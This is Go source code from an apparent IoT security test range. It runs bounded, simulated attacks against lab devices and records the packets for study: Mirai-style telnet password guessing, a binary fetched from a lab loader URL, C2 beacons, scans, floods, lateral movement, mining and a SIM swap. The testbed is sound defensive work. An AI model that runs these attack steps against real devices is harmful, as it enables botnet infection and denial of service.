package lab

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"github.com/ringwall/ringwall"
	"github.com/ringwall/ringwall/internal/lab/actor"
	"github.com/ringwall/ringwall/internal/lab/attack"
	"github.com/ringwall/ringwall/internal/packet"
)

// settle is how long a recording goes on after an attack, for its last packets
// to come through.
const settle = 300 * time.Millisecond

// Attack runs one attack to its end and tells what it did. An attack that was
// foiled is no error: Report.Did and Report.Arrived tell. Attacks may run at
// the same time.
func (r *Range) Attack(ctx context.Context, name string, o AttackOptions) (Report, error) {
	d, ok := definitionOf(name)
	if !ok {
		return Report{}, ringwall.Errorf(ringwall.NotFound, "there is no attack %q", name)
	}
	if o.On == "" {
		o.On = d.On
	}
	if !isDevice(o.On) {
		return Report{}, ringwall.Errorf(ringwall.Invalid, "attack on %q: there is no such device", o.On)
	}
	if o.Duration <= 0 || o.Duration > d.Duration && d.parts != nil {
		o.Duration = d.Duration
	}
	if o.MaxPackets <= 0 {
		o.MaxPackets = defaultPackets
	}
	if o.Pictures <= 0 {
		o.Pictures = 40
	}
	r.mu.Lock()
	for o.Seed == 0 {
		o.Seed = uint64(r.rng.Uint32())
	}
	r.clocks++
	number := r.clocks
	r.mu.Unlock()

	a := &running{r: r, o: o, rep: Report{Name: name, On: o.On, Seed: o.Seed}}
	parts, err := a.parts(d)
	if err != nil {
		return Report{}, err
	}
	l, victims := newLabels(parts)
	if !o.NoCapture {
		a.rep.Capture = filepath.Join(r.cfg.Dir, fmt.Sprintf("%03d-%s-%d.pcapng", number, name, o.Seed))
	}
	rec, err := r.record(recorderConfig{label: l.label, path: a.rep.Capture, victims: victims})
	if err != nil {
		return Report{}, fmt.Errorf("recording attack %q: %w", name, err)
	}
	ctx, cancel := context.WithTimeout(ctx, o.Duration+time.Minute) // programs end by themselves well before
	defer cancel()
	a.rep.From, a.rep.Did = r.cfg.Now(), true
	for i, p := range parts {
		l.now.Store(int32(i))
		if err = a.step(ctx, p); err != nil {
			break
		}
	}
	time.Sleep(settle)
	err = errors.Join(err, rec.stop())
	a.rep.To = r.cfg.Now()
	rec.tell(&a.rep, victims)
	return a.rep, err
}

// defaultPackets bounds a scan that is not bounded otherwise.
const defaultPackets = 5000

// running is one attack under way.
type running struct {
	r   *Range
	o   AttackOptions
	rep Report
}

// part is one definition with the device that it is for.
type part struct {
	definition
	on string
}

// parts lists what an attack is made of.
func (a *running) parts(d definition) (parts []part, err error) {
	if d.parts == nil {
		return []part{{d, a.o.On}}, nil
	}
	for _, name := range d.parts {
		name, device, named := strings.Cut(name, "@")
		p, ok := definitionOf(name)
		if !ok {
			return nil, ringwall.Errorf(ringwall.Internal, "attack %q has no part %q", d.Name, name)
		}
		on := p.On
		if on == d.On {
			on = a.o.On // the story is told of another device
		}
		if named {
			on = device
		}
		parts = append(parts, part{p, on})
	}
	return parts, nil
}

// labels tells the packets of several parts from others, and from each other:
// two parts may have the same packets, so that the one under way is asked first.
type labels struct {
	names []string
	match []func(*packet.Packet) bool
	now   atomic.Int32 // the part under way
}

// newLabels returns the labels of parts, and everybody at whom their packets
// are counted.
func newLabels(parts []part) (l *labels, victims []string) {
	l = &labels{}
	for _, p := range parts {
		l.names = append(l.names, p.Name)
		l.match = append(l.match, p.match(addrOf(p.on)))
		for _, v := range p.victims(p.on) {
			if !slices.Contains(victims, v) {
				victims = append(victims, v)
			}
		}
	}
	return l, victims
}

// label names the part that a packet belongs to, "" for none.
func (l *labels) label(p *packet.Packet) string {
	if now := l.now.Load(); l.match[now](p) {
		return l.names[now]
	}
	for i, f := range l.match {
		if f(p) {
			return l.names[i]
		}
	}
	return ""
}

// step runs one part.
func (a *running) step(ctx context.Context, p part) error {
	limit := a.o.Duration
	if a.rep.Name != p.Name {
		limit = min(limit, p.Duration)
	}
	s := Step{Name: p.Name, Start: a.r.cfg.Now()}
	var err error
	s.Did, s.Detail, err = a.do(ctx, p, limit)
	s.End = a.r.cfg.Now()
	a.rep.Did = a.rep.Did && s.Did
	a.rep.Steps = append(a.rep.Steps, s)
	if err != nil {
		return fmt.Errorf("attack %q on %q: %w", p.Name, p.on, err)
	}
	return nil
}

func (a *running) do(ctx context.Context, p part, limit time.Duration) (did bool, detail any, err error) {
	on := addrOf(p.on)
	switch p.Name {
	case TelnetGuess, Infect:
		c := attack.GuessConfig{
			Seed: a.o.Seed, Target: netip.AddrPortFrom(on, 23), Pairs: attack.MiraiPairs(), Every: 300 * time.Millisecond, Duration: limit,
		}
		if p.Name == Infect {
			c.Fetch = "http://" + addrOf(Loader).String() + "/bins/range.mips"
		}
		var g attack.GuessResult
		err := a.r.call(ctx, Attacker, "guess", c, &g)
		return g.In && (g.Fetched || c.Fetch == ""), g, err
	case Beacon:
		b, err := a.beacon(ctx, p.on, commandPort, limit, "")
		return b.Answered > 0, b, err
	case FailingBeacon:
		b, err := a.beacon(ctx, p.on, closedPort, limit, "")
		return b.Tries > 0, b, err
	case MiraiScan, UnknownScan:
		var s attack.ScanResult
		err := a.r.call(ctx, p.on, "scan", attack.ScanConfig{
			Kind: scanOf(p.Name), Seed: a.o.Seed, Source: on, Range: scanRange, Duration: limit, MaxPackets: a.o.MaxPackets,
		}, &s)
		return s.Packets > 0, s, err
	case SlowScan:
		var s attack.ScanResult
		err := a.r.call(ctx, p.on, "scan", attack.ScanConfig{
			Kind: attack.Unknown, Seed: a.o.Seed, Source: on, Range: scanRange, Duration: limit, MaxPackets: a.o.MaxPackets, Interval: slowly,
		}, &s)
		return s.Packets > 0, s, err
	case UDPFlood, SYNFlood, HTTPFlood:
		return a.flood(ctx, p, limit)
	case Exploit:
		var x attack.ExploitResult
		err := a.r.call(ctx, Attacker, "exploit", attack.ExploitConfig{
			Target: netip.AddrPortFrom(on, 80), Fetch: "http://" + addrOf(Loader).String() + "/bins/range.mips",
		}, &x)
		return x.Fetched, x, err
	case Lateral:
		var k attack.KnockResult
		err := a.r.call(ctx, p.on, "knock", attack.KnockConfig{Target: addrOf(GoodCam), Ports: []uint16{23, 80, 554, 443}, Pairs: attack.MiraiPairs()[:8]}, &k)
		return len(k.Open) > 0, k, err
	case MapPort:
		var m attack.MapResult
		err := a.r.call(ctx, p.on, "map", attack.MapConfig{Router: netip.AddrFrom4([4]byte{10, 77, 0, 1}), Port: 554}, &m)
		return len(m.Granted) > 0, m, err
	case Mine:
		var m attack.MineResult
		err := a.r.call(ctx, p.on, "mine", attack.MineConfig{To: netip.AddrPortFrom(addrOf(C2), poolPort), Duration: limit}, &m)
		return m.Subscribed, m, err
	case StrangerVideo:
		var s actor.StrangerResult
		err := a.r.call(ctx, Attacker, "video", actor.StrangerConfig{
			Target: on, User: badUser, Password: badPassword, Duration: limit, Pictures: a.o.Pictures,
		}, &s)
		return s.Pictures > 0, s, err
	case SIMSwap:
		return a.swap(ctx)
	case MeterCompromise:
		home, err := a.beacon(ctx, p.on, commandPort, limit/2, "")
		if err != nil {
			return false, nil, err
		}
		sim, err := a.beacon(ctx, p.on, commandPort, limit/2, modem)
		if err == nil {
			err = a.r.call(ctx, Operator, "flush", nil, nil)
		}
		return home.Answered > 0 && sim.Answered > 0, map[string]attack.BeaconResult{"home": home, "sim": sim}, err
	}
	return false, nil, ringwall.Errorf(ringwall.Internal, "attack %q has no program", p.Name)
}

// slowly is the pause between two targets of a slow scan: five a minute.
const slowly = 12 * time.Second

// flood runs one of the bounded floods.
func (a *running) flood(ctx context.Context, p part, limit time.Duration) (bool, any, error) {
	c := attack.FloodConfig{Seed: a.o.Seed, Source: addrOf(p.on), To: netip.AddrPortFrom(flooded, 9999), Rate: 4000, Packets: 20_000, Duration: limit}
	switch p.Name {
	case UDPFlood:
		c.Kind = attack.FloodUDP
	case SYNFlood:
		c.Kind = attack.FloodSYN
	default:
		c.Kind, c.To, c.Rate, c.Packets = attack.FloodHTTP, netip.AddrPortFrom(addrOf(Update), 80), 80, 800
	}
	var f attack.FloodResult
	err := a.r.call(ctx, p.on, "flood", c, &f)
	return f.Sent > 0 && (c.Kind != attack.FloodHTTP || f.Answered > 0), f, err
}

// beaconPeriod is how often an infected device calls.
const beaconPeriod = 1500 * time.Millisecond

func (a *running) beacon(ctx context.Context, on string, port uint16, limit time.Duration, ifc string) (b attack.BeaconResult, err error) {
	err = a.r.call(ctx, on, "beacon", attack.BeaconConfig{
		Seed: a.o.Seed, To: netip.AddrPortFrom(addrOf(C2), port), Interface: ifc, Period: beaconPeriod, Jitter: 0.1, Duration: limit, Tries: 1000,
	}, &b)
	return b, err
}

// swap puts the card into another equipment, which sends a message and uses
// data: the readings go on, so that the next usage record has both.
func (a *running) swap(ctx context.Context) (bool, any, error) {
	thief, err := digits("86111111", 14)
	if err != nil {
		return false, nil, err
	}
	thief += luhn(thief)
	if err := a.r.call(ctx, Operator, "attach", actor.Attach{IMEI: thief}, nil); err != nil {
		return false, nil, err
	}
	var before, after actor.OperatorState
	if err := a.r.call(ctx, Operator, "state", nil, &before); err != nil {
		return false, nil, err
	}
	if before.State == "suspended" {
		return false, map[string]string{"card": before.State}, nil // nobody can use it
	}
	if err := a.r.call(ctx, Operator, "service", actor.Service{Service: "sms", Peer: "106900000001"}, nil); err != nil {
		return false, nil, err
	}
	select {
	case <-ctx.Done():
		return false, nil, ctx.Err()
	case <-time.After(min(a.r.cfg.Pace+time.Second, a.o.Duration)):
	}
	if err := a.r.call(ctx, Operator, "flush", nil, nil); err != nil {
		return false, nil, err
	}
	err = a.r.call(ctx, Operator, "state", nil, &after)
	return after.Records > before.Records, map[string]string{"card": after.State}, err
}
